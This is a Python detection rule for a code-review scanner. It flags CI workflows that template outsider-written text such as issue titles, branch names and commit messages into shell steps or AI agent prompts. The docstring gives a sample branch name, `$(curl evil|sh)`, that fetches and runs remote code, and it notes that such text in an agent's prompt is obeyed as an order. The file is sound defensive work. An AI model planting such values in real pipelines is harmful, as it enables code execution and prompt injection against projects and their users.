"""Text that outsiders write, put into a script or an agent's prompt by a template.

What it flags
    In CI, a template that pastes what a stranger may write (a title, a body, a comment, a
    branch name, a commit message, a label, an e-mail address) into `run:`, into the source
    of a script step, or into the prompt of an agent: `${{ github.event.issue.title }}`,
    `${{ github.head_ref }}`, `$(Build.SourceBranchName)`, `<< pipeline.git.branch >>`.

Why it matters
    The template is filled in before the shell reads the line: a branch named
    `$(curl evil|sh)` is executed. In a prompt it is read as an order.

How to review it
    Move the text into `env:` and use the variable, quoted, in the script.
    An agent should fetch the text as data, with tools that cannot write.

Not flagged
    Templates in `env:`, `if:`, `with:` of ordinary actions and concurrency groups; numbers
    and hashes (`github.event.pull_request.number`, `…head.sha`).

Seen in
    Ultralytics (December 2024, GHSA-7x29-qqmq-v6qc): a branch name run by an action. Nx
    (August 2025, GHSA-cxm3-wv7p-598c): a pull request's title. CWE-94, CWE-77; GitHub
    Security Lab, "Untrusted input"; OWASP CICD-SEC-4.
"""

from collections.abc import Iterator

from reviewqueue.domain.finding import Confidence, Pathway, Severity, Side
from reviewqueue.domain.paths import Label
from reviewqueue.scan.outline import Entry, beyond, outline
from reviewqueue.scan.rule import FileView, Hit, Pattern, Rule, Stability, View, expression

_CI = frozenset({Label.CI})
_WORDS = (
    r"\bgithub\.(?:head_ref\b|event\.(?:issue|pull_request|comment|review|review_comment|"
    r"discussion|head_commit|commits|pages|workflow_run|release|client_payload|answer)"
    r"(?:[\w.\[\]*'-]*\.)?(?:title|body|message|name|page_name|email|head_ref|ref|label|login|"
    r"head_branch|default_branch|display_title|description|homepage|tag_name)\b)|"
    r"\bgithub\s*\[\s*['\"](?:head_ref|event)['\"]\s*\]|\bgithub\.event\s*\[|"
    r"(?i:\btojson)\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|"
    r"head_commit|commits))?\s*\)"
)
_RUNS = frozenset(
    [
        "run",
        "script",
        "prompt",
        "direct_prompt",
        "custom_instructions",
        "override_prompt",
        "system_prompt",
        "append_system_prompt",
        "instructions",
        "user_prompt",
        "additional_instructions",
        "inline",
        "inlinescript",
        "script_stop",
        "command",
        "commands",
        "args",
        "entrypoint",
        "sh",
        "bash",
        "code",
    ]
)
_PROMPTS = frozenset(key for key in _RUNS if "prompt" in key or "instruction" in key)
_SAFE_KEYS = frozenset(
    [
        "if",
        "env",
        "group",
        "concurrency",
        "ref",
        "repository",
        "with",
        "name",
        "run-name",
        "outputs",
    ]
)
_SHELL = (
    r"\brun:|\becho\b|[^=!<>]=[\"'$]|\bscript:|\bcurl\b|\bgit\s|\bgh\s|\bpython|\bnode\b|\bnpm\b|"
    r"\bif\s+\[|\bexport\s|\bdocker\s|`|\|\s|>>|\bconst\s|\blet\s|\bprompt"
)


def check(view: View) -> Iterator[Hit]:
    """Mark each line whose key, or whose look, says that it is executed or obeyed."""
    for file in view.where(_WORDS, side=Side.NEW):
        if Label.CI not in file.labels and not file.path.endswith((".yml", ".yaml")):
            continue
        lines = {line.number: line for line in file.new(_WORDS)}
        told = set()
        for entry in outline(file, Side.NEW) if lines else ():
            if entry.number in lines and entry.number not in told and _is_text(entry):
                told.add(entry.number)
                yield from _judged(file, entry)
        for line in beyond(file, lines.values()):
            if line.number not in told:
                yield Hit.at(file, line, "text of outsiders, in a file too long to be read in full")


def _is_text(entry: Entry) -> bool:
    return expression(_WORDS).search(entry.line) is not None and b"{{" in entry.line


def _judged(file: FileView, entry: Entry) -> Iterator[Hit]:
    keys = set(entry.under)
    is_block = not keys.isdisjoint(_RUNS)
    if not is_block:
        if entry.key in _SAFE_KEYS or "env" in keys or "if" in keys:
            return
        if entry.path and entry.path[-1] == entry.path[-1].upper():
            return
        if not expression(_SHELL).search(entry.line):
            return
    if keys & _PROMPTS:
        yield entry.hit(
            file, "text that outsiders write becomes part of an agent's orders", discountable=True
        )
    elif not expression(r"\.(?:user\.)?login\s*(?:\}|\|)").search(entry.line):
        yield entry.hit(file, "text that outsiders control is put into a script", discountable=True)


RULE = Rule(
    id="workflow-template-injection",
    version=3,
    pathway=Pathway.PERMISSIONS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    stability=Stability.STABLE,
    summary="puts text that outsiders control into a script or a prompt",
    patterns=(
        Pattern(
            r"\$\{?CI_(?:COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG\w*|AUTHOR)|"
            r"MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH\w*|LABELS))\b|"
            r"\$\{?(?:BUILDKITE_(?:MESSAGE|BRANCH)|CIRCLE_(?:BRANCH|TAG)|BITBUCKET_BRANCH)\b",
            "what a stranger wrote is executed, not only shown",
            line=r"\beval\b|\b(?:ba|z|da)?sh\s+-c\b|\bpython3?\s+-c\b|\bnode\s+-e\b",
            only=_CI,
        ),
        Pattern(
            r"\$\((?:Build\.Source(?:Branch(?:Name)?|VersionMessage|VersionAuthor)|"
            r"System\.PullRequest\.Source(?:Branch|RepositoryURI))\)",
            "a branch's name or a commit's message is put into a script",
            line=r"\b(?:script|bash|powershell|pwsh|run)\s*:|\becho\b|\bgit\s|\bcurl\b|\bdocker\s",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
        Pattern(
            r"<<\s*pipeline\.(?:git\.(?:branch|tag)|trigger_parameters|event\.github)[\w.]*\s*>>",
            "a branch's name is put into a script",
            line=r"\b(?:command|run)\s*:|\becho\b|\bgit\s|\bcurl\b|\bdocker\s|=",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
        Pattern(
            r"\$\{(?:env\.|params\.)?(?:CHANGE_(?:TITLE|BRANCH|AUTHOR\w*)|ghprb\w*(?:Title|Body|"
            r"SourceBranch|CommentBody)|gitlabMergeRequestTitle|gitlabSourceBranch)\}",
            "a pull request's title or branch is put into a script",
            line=r"\b(?:sh|bat|powershell)\b",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
    ),
    triggers=(_WORDS,),
    check=check,
)
